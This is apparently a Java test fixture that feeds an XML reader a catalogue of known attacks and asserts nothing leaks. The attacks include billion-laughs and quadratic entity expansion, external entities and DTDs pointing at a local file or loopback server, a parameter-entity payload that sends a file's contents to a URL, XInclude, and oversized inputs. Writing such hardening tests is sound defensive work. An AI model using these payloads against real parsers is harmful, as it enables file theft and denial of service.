package vn.lienthong.hub.testing;

import static org.assertj.core.api.Assertions.assertThat;

import com.sun.net.httpserver.HttpServer;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.net.URI;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.LinkedHashMap;
import java.util.Map;
import java.util.concurrent.atomic.AtomicInteger;

/**
 * What is known to be done to readers of XML. A file on this machine and a server tempt the reader: nothing of the file
 * may turn up anywhere, and nobody may call the server.
 */
public final class HostileXml implements AutoCloseable {

    /** What is written in the file, and answered by the server. */
    public static final String SECRET = "noi-dung-cua-tep-khong-ai-duoc-doc";

    private final AtomicInteger calls = new AtomicInteger();
    private final Path file;
    private final HttpServer server;

    public HostileXml() {
        try {
            file = Files.writeString(Files.createTempFile("hostile", ".txt"), SECRET);
            server = HttpServer.create(new InetSocketAddress(InetAddress.getLoopbackAddress(), 0), 0);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        server.createContext("/", http -> {
            calls.incrementAndGet();
            byte[] answer = ("<!ENTITY x \"" + SECRET + "\">").getBytes(java.nio.charset.StandardCharsets.UTF_8);
            http.sendResponseHeaders(200, answer.length);
            http.getResponseBody().write(answer);
            http.close();
        });
        server.start();
    }

    /**
     * Every attack upon a sound message, by name.
     *
     * @param sound well-formed, without a declaration, and with a text that stands once in it
     * @param text is replaced by what attacks from within an element
     */
    public Map<String, String> upon(String sound, String text) {
        assertThat(sound).containsOnlyOnce(text);
        Map<String, String> attacks = new LinkedHashMap<>();
        doctypes().forEach((name, inside) -> {
            String doctype = "<!DOCTYPE a " + inside + ">";
            attacks.put(name, doctype + sound.replace(text, "&x;"));
            attacks.put(name + ", not referred to", doctype + sound);
        });
        attacks.put("an entity of nobody", sound.replace(text, "&x;"));
        contents().forEach((name, content) -> attacks.put(name, sound.replace(text, content)));
        return attacks;
    }

    /** Nobody has called the server, and this text holds nothing of the file. */
    public void assertHarmless(String name, String said) {
        assertThat(said).as(name).doesNotContain(SECRET);
        assertThat(calls.get()).as(name + ": calls of the server").isZero();
    }

    private Map<String, String> doctypes() {
        URI address = URI.create("http://localhost:" + server.getAddress().getPort() + "/x.dtd");
        Map<String, String> doctypes = new LinkedHashMap<>();
        doctypes.put("billion laughs", laughs());
        doctypes.put("quadratic blow-up", "[<!ENTITY x \"" + "ha".repeat(10_000) + "\">]");
        doctypes.put("external entity, a file", "[<!ENTITY x SYSTEM \"" + file.toUri() + "\">]");
        doctypes.put("external entity, a server", "[<!ENTITY x SYSTEM \"" + address + "\">]");
        doctypes.put("external DTD", "SYSTEM \"" + address + "\"");
        doctypes.put("public DTD", "PUBLIC \"-//W3C//DTD XHTML 1.0 Strict//EN\" \"" + address + "\"");
        doctypes.put("parameter entity, a server", "[<!ENTITY % p SYSTEM \"" + address + "\"> %p;]");
        doctypes.put(
                "parameter entities that send a file away",
                "[<!ENTITY % f SYSTEM \"" + file.toUri() + "\"><!ENTITY % s \"<!ENTITY x SYSTEM '" + address
                        + "?%f;'>\"> %s;]");
        doctypes.put("attributes by default", "[<!ATTLIST a b CDATA \"c\"><!ENTITY x \"ha\">]");
        return doctypes;
    }

    private static String laughs() {
        StringBuilder entities = new StringBuilder("[<!ENTITY l0 \"ha\">");
        for (int i = 1; i < 10; i++) {
            entities.append("<!ENTITY l%d \"%s\">".formatted(i, ("&l" + (i - 1) + ";").repeat(10)));
        }
        return entities.append("<!ENTITY x \"&l9;\">]").toString();
    }

    private Map<String, String> contents() {
        Map<String, String> contents = new LinkedHashMap<>();
        contents.put(
                "XInclude",
                "<xi:include xmlns:xi=\"http://www.w3.org/2001/XInclude\" parse=\"text\" href=\"" + file.toUri()
                        + "\"/>");
        contents.put("deep nesting", "<a>".repeat(20_000) + "</a>".repeat(20_000));
        contents.put("deep nesting without an end", "<a>".repeat(20_000));
        contents.put("a huge attribute", "<a b=\"" + "x".repeat(200_000) + "\"/>");
        contents.put("many attributes", "<a " + attributes(5_000) + "/>");
        contents.put("many namespaces", "<a " + attributes(5_000).replace(" b", " xmlns:b") + "/>");
        contents.put("many elements", "<a/>".repeat(50_000));
        contents.put("a huge name", "<" + "a".repeat(200_000) + "/>");
        contents.put("characters that XML does not have", "\u0001\uFFFF");
        return contents;
    }

    private static String attributes(int number) {
        StringBuilder attributes = new StringBuilder();
        for (int i = 0; i < number; i++) {
            attributes.append(" b").append(i).append("=\"c\"");
        }
        return attributes.toString();
    }

    @Override
    public void close() {
        server.stop(0);
        try {
            Files.delete(file);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }
}
